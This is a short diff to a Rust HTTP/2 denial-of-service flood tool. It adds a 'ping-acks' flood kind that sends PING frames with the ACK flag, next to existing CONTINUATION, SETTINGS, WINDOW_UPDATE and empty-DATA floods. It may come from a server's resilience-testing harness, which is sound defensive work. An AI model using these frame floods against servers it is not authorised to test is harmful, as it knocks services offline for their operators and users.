@@ -7,7 +7,7 @@ use tokio::time::{Instant, timeout, timeout_at};
 
 use super::attacks::{Done, PAUSE, Stream, send, sip};
 
-pub const KINDS: [&str; 15] = [
+pub const KINDS: [&str; 16] = [
     "handshakes",
     "slow-heads-h2",
     "slow-bodies-h2",
@@ -19,6 +19,7 @@ pub const KINDS: [&str; 15] = [
     "continuation",
     "settings",
     "ping",
+    "ping-acks",
     "window-update",
     "empty-data",
     "priority",
@@ -35,6 +36,7 @@ const GOAWAY: u8 = 7;
 const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
+const ACK: u8 = 1;
 const END_HEADERS: u8 = 4;
 
 const FLOOD_PIECE: usize = 32 * 1024;
@@ -184,6 +186,7 @@ async fn flooded(
                 "continuation" => piece.extend(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b")),
                 "settings" => piece.extend(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")),
                 "ping" => piece.extend(frame(PING, 0, 0, &[7; 8])),
+                "ping-acks" => piece.extend(frame(PING, ACK, 0, &[7; 8])),
                 "window-update" => piece.extend(frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())),
                 "empty-data" => piece.extend(frame(DATA, 0, 1, b"")),
                 "priority" => piece.extend(frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
